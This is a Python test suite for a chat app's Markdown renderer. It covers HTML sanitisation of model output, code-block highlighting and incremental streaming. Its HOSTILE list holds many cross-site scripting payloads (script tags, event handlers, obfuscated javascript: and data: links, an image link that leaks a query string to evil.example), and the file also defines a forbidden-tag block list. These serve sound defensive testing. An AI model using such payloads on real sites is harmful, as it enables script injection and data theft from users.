"""Markdown rendering: safety of model output, code blocks, and incremental streaming."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chatapp import render
from chatapp.render import IncrementalRenderer, render_markdown, split_blocks

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "img", "style", "form", "input",
    "textarea", "select", "base", "meta", "link", "details", "video", "audio", "source",
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<style>body{display:none}</style>",
    '<form action="/logout"><input name="a"></form>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/logout)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](http://evil.example/leak?q=secret)",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: javascript:alert(1)",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/threads" data-hx-trigger="load">x</div>',
    '<a href="https://a.example" hx-post="/threads" onclick="alert(1)">x</a>',
    '<p style="position:fixed;inset:0">x</p>',
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=alert(1)\nx = 1\n```",
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)//-->",
    "<details open ontoggle=alert(1)>x</details>",
    '<base href="javascript:/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <svg/onload=alert(1)>\n- [y](javascript:alert(1))",
    '> <iframe srcdoc="<script>alert(1)</script>">',
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![a](javascript:alert(1))](https://a.example)",
    '<a href="data:text/html,x" id="x" class="copy">x</a>',
]


def assert_safe(html: str) -> None:
    """Fail unless the HTML holds no active content and only web/mail links."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in FORBIDDEN_TAGS, html
        for attr in tag.attrs:
            assert not attr.startswith(("on", "hx-", "data-")), html
            assert attr not in {"style", "src", "id", "srcdoc", "action", "formaction"}, html
        if tag.has_attr("href"):
            assert re.match(r"(https?|mailto):", tag["href"]), html


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_inert(source):
    assert_safe(render_markdown(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_sanitiser_holds_even_if_markdown_passes_raw_html(source, monkeypatch):
    monkeypatch.setitem(render._MD.options, "html", True)
    assert_safe(render_markdown(source))


def test_unsafe_links_keep_only_their_text():
    html = render_markdown("[click me](javascript:alert(1)) [b](/rel)")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("a") is None
    assert soup.get_text().strip() == "click me b"


def test_links_get_rel_and_keep_no_title():
    html = render_markdown('[a](https://a.example "T") <mailto:x@y.z>')
    soup = BeautifulSoup(html, "html.parser")
    links = soup.find_all("a")
    assert [a["href"] for a in links] == ["https://a.example", "mailto:x@y.z"]
    assert all(a["rel"] == ["noopener", "nofollow", "ugc"] for a in links)
    assert all(not a.has_attr("title") and not a.has_attr("target") for a in links)


def test_images_become_links_never_img():
    html = render_markdown("![chart](https://i.example/c.png) ![](http://i.example/d.png)")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("img") is None
    links = soup.find_all("a", class_="img-link")
    assert [(a["href"], a.get_text()) for a in links] == [
        ("https://i.example/c.png", "chart"),
        ("http://i.example/d.png", "http://i.example/d.png"),
    ]
    assert links[0]["rel"] == ["noopener", "nofollow", "ugc"]


def test_image_with_unsafe_url_is_just_its_alt_text():
    html = render_markdown("![secret <b>](data:image/png;base64,AAAA)")
    assert "<a" not in html and "<img" not in html
    assert BeautifulSoup(html, "html.parser").get_text().strip() == "secret <b>"


CODE = 'if a < b && c > "d":\n\tx = \'&amp;\'   \n\n'


def code_of(html: str):
    soup = BeautifulSoup(html, "html.parser")
    return soup.select_one("div.code"), soup.select_one("div.code pre.hl > code")


def test_code_block_structure_and_copy_button():
    block, code = code_of(render_markdown("```python\nx = 1\n```"))
    bar = block.select_one("div.code-bar")
    assert bar.select_one("span.lang").get_text() == "python"
    button = bar.select_one("button.copy")
    assert button["type"] == "button" and button["aria-label"] == "Copy code"
    assert code is not None


def test_highlighting_uses_classes_not_styles():
    html = render_markdown("```python\ndef f(x):\n    return x  # c\n```")
    _, code = code_of(html)
    spans = code.find_all("span")
    assert spans and all(s["class"][0].startswith("hl-") for s in spans)
    assert {"hl-k", "hl-nf", "hl-c1"} <= {s["class"][0] for s in spans}
    assert "style=" not in html


FENCES = ["```python\n", "```\n", "```no-such-lang\n", "~~~js\n"]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        *[(fence + "\n" + CODE + fence[:3], "\n" + CODE) for fence in FENCES],
        ("para\n\n    a < b &amp;  \n    \tc\n", "a < b &amp;  \n\tc\n"),  # indented
        ("```python\nx = 1  ", "x = 1  "),  # open fence: Pygments would add a "\n"
    ],
    ids=["python", "no-lang", "unknown-lang", "tilde-js", "indented", "open-fence"],
)
def test_code_text_is_recoverable_exactly(source, expected):
    assert code_of(render_markdown(source))[1].get_text() == expected


def test_unknown_language_is_plain_escaped_text():
    block, code = code_of(render_markdown("```no-such-lang\n<b>x</b>\n```"))
    assert block.select_one("span.lang").get_text() == "no-such-lang"
    assert code.find("span") is None and code.find("b") is None
    assert code.get_text() == "<b>x</b>\n"


def test_tables_have_head_body_and_alignment_classes():
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.select("table > thead > tr > th") and soup.select("table > tbody > tr > td")
    assert [td["class"] for td in soup.find_all("td")] == [["al-left"], ["al-center"], ["al-right"]]
    assert "style" not in html


def test_strikethrough_and_ordered_list_start():
    soup = BeautifulSoup(render_markdown("~~gone~~\n\n3. c\n4. d\n"), "html.parser")
    assert soup.find(["s", "del"]).get_text() == "gone"
    assert soup.find("ol")["start"] == "3"


def test_pygments_css_is_generated_and_current():
    css = render.pygments_css()
    assert Path(render.STATIC_CSS).read_text(encoding="utf-8") == css
    assert "@media (prefers-color-scheme: dark)" in css
    assert "[data-theme=dark] .hl .hl-k" in css and "[data-theme=light] .hl .hl-k" in css
    assert re.search(r"^\.hl \.hl-k\b", css, re.M)
    # An empty class selector (".hl .") is invalid CSS: the browser drops its whole rule.
    assert not re.search(r"\.hl \.[,{]", css)


# --- incremental rendering -------------------------------------------------------

ANSWERS = [
    """Here's how to read a file in Python:

```python
with open("data.txt", encoding="utf-8") as f:
    for line in f:
        print(line.rstrip())
```

Key points:

- `with` closes the file
- iteration is lazy
  - nested: memory friendly
  - works for *huge*
    files

1. Open
2. Read

   Still item two.
3. Close

> **Note:** use `encoding="utf-8"`
for portability.
> - quoted list

| Mode | Meaning |
|------|:-------:|
| `r` | read |
| `w` | write |
After the table.

Heading
=======

Sub
---

That's it ~~mostly~~.""",
    """# Setup

Install it:

```
pip install thing
```

    indented code
    more

***

Then run `thing --help`. See [docs](https://docs.example/x) or ![logo](https://i.example/l.png).

~~~bash
echo "unclosed fence at the end
""",
    "Short answer.",
    "- a\n- b\n\n\n- c\n\n  continued\n\nafter\n10. ten\n11. eleven\n\n"
    "> q\n>\n> q2\n\n## H ##\ntext\n===\n",
]

LINE_VOCAB = [
    "", "", "text", "more *words*", "- item", "* star", "1. one", "2) two", "  - nested",
    "    code", "> quote", ">", "```", "```python", "~~~", "# head", "#", "##x", "---", "===",
    "***", "- ", "| a | b |", "|---|---|", "| 1 | 2 |", "a | b", "-|-", "  cont", "\t tab",
    "[x](http://a.b)", "10. ten", "`", "  ", "x\r", "> > a", "- ```", "   ```", "\u2028",
    "a\x0bb", "[a]: http://x", "[a]", "<b>",
]  # fmt: skip


def visible(html: str) -> tuple[str, list[str]]:
    """Normalise HTML for comparison: collapsed text and the sequence of tag names."""
    soup = BeautifulSoup(html, "html.parser")
    return " ".join(soup.get_text().split()), [t.name for t in soup.find_all(True)]


def stream(text: str, cuts: list[int]) -> tuple[IncrementalRenderer, list[str], str]:
    """Feed text cumulatively at the given cut points; return renderer, blocks and tail."""
    renderer, blocks, tail = IncrementalRenderer(), [], ""
    for cut in [*cuts, len(text)]:
        new, tail = renderer.update(text[:cut])
        blocks += new
    return renderer, blocks, tail


def assert_stream_matches_whole(text: str, cuts: list[int]) -> None:
    renderer, blocks, tail = stream(text, cuts)
    assert visible("".join(blocks) + tail) == visible(render_markdown(text))
    # Each emitted block is exactly the final rendering of that block: emitted once, in
    # order, and never changed by text that came later.
    final_sources, _ = split_blocks(text)
    assert blocks == [render_markdown(s) for s in final_sources[: len(blocks)]]
    assert renderer.completed_count == len(blocks)


@st.composite
def text_and_cuts(draw):
    parts = st.sampled_from(LINE_VOCAB) | st.text(alphabet="-*#>`|=~ \n\r\t1.ab:[]()_", max_size=6)
    text = "\n".join(draw(st.lists(parts, max_size=20))) + draw(st.sampled_from(["", "\n"]))
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=10)))
    return text, cuts


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text_and_cuts())
def test_any_chunking_streams_the_same_result(case):
    assert_stream_matches_whole(*case)


@settings(max_examples=25, deadline=None)
@given(st.sampled_from(ANSWERS), st.data())
def test_realistic_answers_stream_the_same_result_for_any_chunking(answer, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=30)))
    assert_stream_matches_whole(answer, cuts)


@pytest.mark.parametrize("answer", ANSWERS)
def test_realistic_answers_stream_char_by_char(answer):
    assert_stream_matches_whole(answer, list(range(len(answer))))


def words_cuts(text: str) -> list[int]:
    return [m.end() for m in re.finditer(r"\S+\s*", text)]


def test_long_answer_sends_each_block_once():
    answer = "\n\n".join([ANSWERS[0], ANSWERS[1].replace("~~~bash", "~~~"), ANSWERS[3]] * 3)
    final_sources, _ = split_blocks(answer)
    assert len(final_sources) >= 30
    _, blocks, _ = stream(answer, words_cuts(answer))
    final_blocks = [render_markdown(s) for s in final_sources]
    assert blocks == final_blocks
    assert sum(len(b.encode()) for b in blocks) == sum(len(b.encode()) for b in final_blocks)


PY_LINES = [
    "def area(r):",
    '    """Area of a circle',
    '    of radius r."""',
    "    return 3.14159 * r * r  # approx",
    "",
    "print(area(2) < 13 & True)",
]


def test_streaming_long_code_highlights_in_chunks(monkeypatch):
    monkeypatch.setattr(render, "_TAIL_CHUNK_CHARS", 20)
    lexed = []
    real = render._highlight
    monkeypatch.setattr(render, "_highlight", lambda code, lx: lexed.append(code) or real(code, lx))
    code = "\n".join(PY_LINES * 6) + "\n"
    text = "Intro\n\n```python\n" + code
    _, _, tail = stream(text, list(range(0, len(text), 2)))
    # Re-lexing the whole open block on each of these updates would lex ~len(text)**2 / 4.
    assert sum(map(len, lexed)) < len(text) ** 2 / 20
    # The open tail shows the exact code, coloured, however the deltas were cut.
    _, shown = code_of(tail)
    assert shown.get_text() == code and shown.find("span", class_="hl-k")
    assert IncrementalRenderer().update(text)[1] == tail
    # Once closed and followed by more, the block is emitted as rendered whole.
    closed = text + "```\n\nDone.\n"
    _, more, _ = stream(closed, list(range(len(text), len(closed))))
    assert more[-1] == render_markdown("```python\n" + code + "```\n\n")


def test_unclosed_fence_stays_open():
    blocks, tail = IncrementalRenderer.split("intro\n\n```python\nx = 1\n\nmore\n")
    assert blocks == ["intro\n\n"] and tail.startswith("```python")


@pytest.mark.parametrize(
    "text",
    [
        "para\n\n- a\n",  # the list may get more items
        "para\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",  # more rows may come
        "para\n\nline\n",  # "===" next would make it a heading
        "para\n\n> quote\n",  # a lazy line may continue the quote
    ],
)
def test_last_block_is_never_complete(text):
    assert split_blocks(text)[0] == ["para\n\n"]


def test_partial_last_line_does_not_close_a_block():
    # "#" alone is an empty heading that would end the paragraph; "#x" is not.
    assert split_blocks("para\n#") == ([], "para\n#")
    renderer = IncrementalRenderer()
    assert renderer.update("para\n#")[0] == []
    blocks, tail = renderer.update("para\n#x\n\nnext\n")
    assert blocks == [render_markdown("para\n#x\n\n")] and "<h1" not in blocks[0]


def test_reference_defined_after_use_streams_the_same():
    # A definition arriving later would change a block already sent; they stay plain text.
    text = "See [docs] now.\n\nmiddle\n\n[docs]: https://docs.example\n\nend\n"
    assert_stream_matches_whole(text, [m.end() for m in re.finditer("\n", text)])
    assert "<a" not in render_markdown(text)


def test_update_rejects_text_that_does_not_extend_the_previous():
    renderer = IncrementalRenderer()
    renderer.update("hello\n\nworld")
    with pytest.raises(ValueError):
        renderer.update("goodbye")


def test_blank_tail_renders_empty_and_repeats_are_idempotent():
    renderer = IncrementalRenderer()
    assert renderer.update("") == ([], "")
    first = renderer.update("a\n\nb\n")
    assert renderer.update("a\n\nb\n") == ([], first[1])
    assert renderer.completed_count == 1
